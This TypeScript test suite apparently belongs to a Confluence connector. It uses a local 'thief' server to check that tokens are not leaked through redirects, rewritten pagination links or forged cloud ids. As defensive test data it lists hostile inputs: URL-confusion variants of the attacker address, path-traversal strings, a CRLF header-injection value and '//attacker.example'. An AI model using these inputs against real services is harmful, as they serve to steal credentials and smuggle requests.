/** Whatever an answer says about where to go, a credential goes to the configured hosts alone. A thief listens elsewhere. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest"
import { isCloudId } from "../../src/confluence/GrantedSites.ts"
import type { SiteRequest, SiteResponse } from "../../src/sample-site/answers.ts"
import type { ConfigKind } from "../../src/sample-site/credentials.ts"
import type { SampleSite } from "../../src/sample-site/SampleSite.ts"
import { type RunningSampleSite, startSampleSite } from "../../src/sample-site/server.ts"
import { errorsOf, recordsOf, type Row, runCommand, SHORT_PAUSES } from "../support/runConnector.ts"
import { startThief, type Thief } from "../support/thief.ts"
import { ALL_STREAMS, catalogOf } from "./catalogs.ts"
import { expectRowsOfSite } from "./siteTruth.ts"

let server: RunningSampleSite
let thief: Thief
let site: SampleSite
beforeAll(async () => {
  server = await startSampleSite({ pages: 120 })
  ;({ site } = server)
  thief = await startThief()
})
afterAll(() => Promise.all([server.close(), thief.close()]))

let seen: Array<SiteRequest> = []
let change: (request: SiteRequest, response: SiteResponse) => SiteResponse
beforeEach(() => {
  site.reset()
  seen = []
  change = (_, response) => response
  const usual = site.handle.bind(site)
  site.handle = (request) => {
    seen.push(request)
    return change(request, usual(request))
  }
  return () => {
    site.handle = usual
  }
})
afterEach(() => {
  const taken = thief.taken()
  thief.forget()
  expect(taken, "what the thief has taken").toEqual([])
})

const KINDS = ["classic", "scoped", "oauth2.0", "service_account"] as const satisfies ReadonlyArray<ConfigKind>

const run = (command: "check" | "read", config: Row, streams: ReadonlyArray<string> = ALL_STREAMS) =>
  runCommand(
    command,
    { config, ...(command === "read" && { catalog: catalogOf(streams) }) },
    { env: { ...SHORT_PAUSES, LOG_LEVEL: "TRACE" } },
  )

/** Other answers at a path, in JSON. */
const answerAt = (path: string, body: unknown): void => {
  change = (request, response) =>
    request.path === path
      ? { ...response, status: 200, headers: { "content-type": "application/json" }, body: JSON.stringify(body) }
      : response
}

/** Ways to name the thief, of which a careless reader of addresses takes some for the site's own. */
const addresses = (): ReadonlyArray<string> => [
  thief.url,
  `//${thief.host}`,
  `///${thief.host}`,
  `\\\\${thief.host}`,
  `/\\${thief.host}`,
  `http:${thief.host}`,
  `http:\\\\${thief.host}`,
  `HTTP://${thief.host}`,
  `${server.url}@${thief.host}`,
  `http://${new URL(server.url).host}@${thief.host}`,
  `http://${thief.host}\\@${new URL(server.url).host}`,
  `@${thief.host}`,
  `\t${thief.url}`,
  ` ${thief.url}`,
]

describe("the thief", () => {
  it("notices what comes to it", async () => {
    await fetch(`${thief.url}/wiki?x=1`, { method: "POST", headers: { authorization: "Bearer mine" }, body: "secret" })
    expect(thief.taken()).toEqual([
      expect.stringMatching(/^POST \/wiki\?x=1 HTTP[^]*authorization: Bearer mine[^]*secret$/),
    ])
    await fetch(`https://${thief.host}/`).catch(() => undefined)
    expect(thief.taken()).toHaveLength(2)
    thief.forget()
  })
})

describe("a redirect is not followed", () => {
  const redirected: ReadonlyArray<readonly [string, ConfigKind, "check" | "read", ReadonlyArray<number>]> = [
    ["/wiki/rest/api/user/current", "classic", "check", [301, 302, 303, 307, 308]],
    ["/wiki/rest/api/user/current", "oauth2.0", "check", [307]],
    ["/wiki/api/v2/*", "classic", "read", [302, 308]],
    ["/wiki/api/v2/*", "service_account", "read", [307]],
    ["/wiki/rest/api/*", "scoped", "read", [301]],
    ["/oauth/token", "oauth2.0", "check", [301, 302, 303, 307, 308]],
    ["/oauth/token", "service_account", "check", [307]],
    ["/oauth/token/accessible-resources", "oauth2.0", "check", [302, 308]],
    ["/_edge/tenant_info", "scoped", "check", [302]],
  ]
  describe.each(redirected)("of %s, signed in with %s", (path, kind, command, statuses) => {
    it.each(statuses)("by status %i", async (status) => {
      site.setFaults([{ kind: "redirect", path, status, location: thief.url }])
      const ran = await run(command, site.config(kind))
      expect(errorsOf(ran).length).toBeGreaterThan(0)
      expect(site.listFaults()[0]!.hit).toBeGreaterThan(0)
    })
  })

  it("however it names its target", async () => {
    let turn = 0
    change = (request, response) => {
      if (!request.path.startsWith("/wiki/") || request.path.endsWith("/user/current")) return response
      const location = addresses()[turn++ % addresses().length]!.trim()
      return { ...response, status: 302, headers: { location, refresh: `0; url=${location}` } }
    }
    expect(errorsOf(await run("check", site.config()))).toMatchObject([
      { message: expect.stringContaining("redirect (302)") },
    ])
    await run("read", site.config())
    expect(turn).toBeGreaterThan(addresses().length)
  })

  it("of a Location that comes with another status", async () => {
    let turn = 0
    change = (request, response) => {
      if (!request.path.startsWith("/wiki/") || request.path.endsWith("/user/current")) return response
      const headers = { location: `${thief.url}/login`, link: `<${thief.url}>; rel="next"`, "retry-after": "0" }
      return turn++ < 12 ? { ...response, status: [403, 429, 503, 404][turn % 4]!, headers } : response
    }
    // After refusals for the rate few requests a second are sent: enough for lists, not for what asks each content.
    await run("read", site.config(), ["spaces", "pages", "blog_posts", "comments", "attachments", "users", "groups"])
    expect(turn).toBeGreaterThan(12)
  })
})

describe("a link to the next page", () => {
  it.each(KINDS)("gives its cursor alone, wherever it leads: %s", async (kind) => {
    site.set({ maxPageSize: 15, quirks: { nextInV1: "always" } })
    let changed = 0
    change = (request, response) => {
      if (response.status !== 200 || !request.path.includes("/wiki/")) return response
      const value = JSON.parse(Buffer.from(response.body).toString()) as { _links?: Record<string, string> }
      const next = value["_links"]?.["next"]
      if (next === undefined) return response
      const address = addresses()[changed++ % addresses().length]!
      const base = `${thief.url}/wiki`
      const links = { base, context: thief.url, self: `${base}/self`, next: `${address}${next}` }
      const link = `<${thief.url}${next}>; rel="next", <${thief.url}>; rel="base"`
      return { ...response, headers: { ...response.headers, link }, body: JSON.stringify({ ...value, _links: links }) }
    }
    const ran = await run("read", site.config(kind))
    expect(errorsOf(ran)).toEqual([])
    for (const stream of ALL_STREAMS) {
      if (stream !== "groups") expectRowsOfSite(site, stream, recordsOf(ran, stream))
    }
    expect(changed).toBeGreaterThan(addresses().length)
  })
})

describe("the list of a token's sites", () => {
  const RESOURCES = "/oauth/token/accessible-resources"

  it("is good for comparing addresses alone", async () => {
    answerAt(RESOURCES, [{ id: site.cloudId, url: thief.url, name: "northwind", scopes: [], avatarUrl: thief.url }])
    const byId = await run("read", site.config("oauth2.0"))
    expect(byId.exitCode).toBe(0)
    const byAddress = await run("read", { ...site.config("oauth2.0"), domain_name: thief.url })
    expect(byAddress.exitCode).toBe(0)
    expectRowsOfSite(site, "pages", recordsOf(byAddress, "pages"))
  })

  it("may name addresses of every form", async () => {
    const others = addresses().map((url, at) => ({ id: `0000000${at}-1111-4222-8333-444444444444`, url, name: url }))
    answerAt(RESOURCES, [...others, { id: site.cloudId, url: `${thief.url}/wiki`, name: "northwind" }])
    const ran = await run("check", site.config("oauth2.0"))
    expect(ran.messages.at(-1)).toMatchObject({ connectionStatus: { status: "SUCCEEDED" } })
    answerAt(RESOURCES, others)
    const none = await run("check", site.config("oauth2.0"))
    expect(errorsOf(none)).toMatchObject([{ message: expect.stringContaining(thief.host) }])
  })
})

describe("a cloud id", () => {
  const tricks = (): ReadonlyArray<unknown> => [
    "..",
    ".",
    "../..",
    "../../wiki",
    "%2e%2e%2f",
    "%2f..",
    "a/b",
    "a?b=",
    "a#b",
    "a b",
    "a\\b",
    "a\r\nX-Stolen: 1",
    ...addresses(),
    "",
    " ",
    "x".repeat(300),
    null,
    5,
    ["e78d072d-037e-42b5-a02d-bb52484275b1"],
    { toString: "x" },
  ]
  const authorizedPaths = () => new Set(seen.filter(({ headers }) => headers["authorization"]).map(({ path }) => path))

  it("is told from what would lead elsewhere", () => {
    expect(tricks().filter(isCloudId)).toEqual([])
    expect(isCloudId(site.cloudId)).toBe(true)
  })

  it.each(["..", "../../wiki", "a?b=", "//attacker.example", ""])(
    "of the site's own that is none leads nowhere: %j",
    async (cloudId) => {
      answerAt("/_edge/tenant_info", { cloudId })
      const ran = await run("check", site.config("scoped"))
      expect(errorsOf(ran)).toMatchObject([{ failure_type: "config_error" }])
      expect([...authorizedPaths()]).toEqual(["/wiki/rest/api/user/current"])
    },
  )

  it("of a token's site that is none leads nowhere", async () => {
    const listed = tricks().map((id) => ({ id, url: server.url, name: "northwind", scopes: [] }))
    answerAt("/oauth/token/accessible-resources", listed)
    const ran = await run("check", site.config("oauth2.0"))
    expect(errorsOf(ran)).toMatchObject([{ message: expect.stringContaining("no Confluence site") }])
    expect([...authorizedPaths()]).toEqual(["/oauth/token/accessible-resources"])
  })

  it("that is none leaves a service account with the one that the site itself tells", async () => {
    const listed = tricks().map((id) => ({ id, url: server.url, name: "northwind", scopes: [] }))
    answerAt("/oauth/token/accessible-resources", listed)
    const ran = await run("check", site.config("service_account"))
    expect(ran.messages.at(-1)).toMatchObject({ connectionStatus: { status: "SUCCEEDED" } })
    const [first, ...others] = authorizedPaths()
    expect(first).toBe("/oauth/token/accessible-resources")
    for (const path of others) expect(path.startsWith(`/ex/confluence/${site.cloudId}/wiki/`)).toBe(true)
  })
})

describe("what needs no credential gets none", () => {
  it.each(KINDS)("the site's cloud id: %s", async (kind) => {
    // Not among the sites of the token, so that the site is asked who it is.
    answerAt("/oauth/token/accessible-resources", [{ id: site.cloudId, url: "https://elsewhere.example", name: "" }])
    const ran = await run("check", site.config(kind))
    expect(ran.messages.at(-1)).toMatchObject({ connectionStatus: { status: "SUCCEEDED" } })
    const asked = seen.filter(({ path }) => path === "/_edge/tenant_info")
    expect(asked).toHaveLength(1)
    expect(Object.keys(asked[0]!.headers).sort()).toEqual([
      "accept",
      "accept-encoding",
      "connection",
      "host",
      "user-agent",
    ])
  })

  it("the token endpoint: the secrets are in the body alone, and the token goes to the gateway alone", async () => {
    await run("check", site.config("oauth2.0"))
    const tokenRequests = seen.filter(({ path }) => path === "/oauth/token")
    expect(tokenRequests).toHaveLength(1)
    expect(tokenRequests[0]!.headers["authorization"]).toBeUndefined()
    expect(`${tokenRequests[0]!.query}`).toBe("")
    const [{ accessTokens }] = site.grants() as unknown as [{ accessTokens: ReadonlyArray<{ token: string }> }]
    const carrying = seen.filter((request) => JSON.stringify(request).includes(accessTokens[0]!.token))
    expect(carrying.length).toBeGreaterThan(3)
    expect(
      carrying.filter(({ path }) => !/^\/ex\/confluence\/|^\/oauth\/token\/accessible-resources$/.test(path)),
    ).toEqual([])
  })
})
